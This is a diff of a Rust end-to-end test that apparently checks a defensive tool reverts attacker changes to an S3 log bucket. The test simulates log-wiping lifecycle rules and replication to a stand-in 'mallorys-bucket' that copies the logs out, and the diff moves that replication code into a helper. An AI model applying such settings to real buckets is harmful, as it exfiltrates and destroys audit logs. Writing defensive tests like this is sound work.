@@ -122,9 +122,8 @@ async fn attack_3_a_changed_investigator_trust_is_put_back() {
 #[tokio::test(flavor = "current_thread")]
 async fn attack_4_settings_that_destroy_or_copy_out_the_logs_are_reverted() {
     use aws_sdk_s3::types::{
-        BucketVersioningStatus, Destination, ExpirationStatus, LifecycleExpiration, LifecycleRule,
-        LifecycleRuleFilter, NoncurrentVersionExpiration, ReplicationConfiguration, ReplicationRule,
-        ReplicationRuleStatus,
+        BucketVersioningStatus, ExpirationStatus, LifecycleExpiration, LifecycleRule, LifecycleRuleFilter,
+        NoncurrentVersionExpiration,
     };
     let Some(env) = setup().await else { return };
     let s3 = &env.stack.clients.s3;
@@ -137,33 +136,8 @@ async fn attack_4_settings_that_destroy_or_copy_out_the_logs_are_reverted() {
         .build()
         .unwrap();
     set_lifecycle(s3, wipe).await;
-    // Replication needs versioning on (moto checks, as S3 does): copy out first, then suspend it.
-    set_versioning(s3, BucketVersioningStatus::Enabled).await;
-    let copy = ReplicationRule::builder()
-        .id("copy-out")
-        .status(ReplicationRuleStatus::Enabled)
-        .priority(1)
-        .filter(aws_sdk_s3::types::ReplicationRuleFilter::builder().prefix("").build())
-        .delete_marker_replication(
-            aws_sdk_s3::types::DeleteMarkerReplication::builder()
-                .status(aws_sdk_s3::types::DeleteMarkerReplicationStatus::Disabled)
-                .build(),
-        )
-        .destination(Destination::builder().bucket("arn:aws:s3:::mallorys-bucket").build().unwrap())
-        .build()
-        .unwrap();
-    s3.put_bucket_replication()
-        .bucket(BUCKET)
-        .replication_configuration(
-            ReplicationConfiguration::builder()
-                .role("arn:aws:iam::111122223333:role/r")
-                .rules(copy)
-                .build()
-                .unwrap(),
-        )
-        .send()
-        .await
-        .unwrap();
+    // Copied out first (replication needs versioning on), then versioning suspended.
+    e2e::replicate_out(s3, BUCKET, "arn:aws:iam::111122223333:role/r").await;
     set_versioning(s3, BucketVersioningStatus::Suspended).await;
     for name in ["PutBucketVersioning", "PutBucketLifecycle", "PutBucketReplication"] {
         let mut e = cloudtrail_event(name, BUCKET, ADMIN, "mallory", None, None);
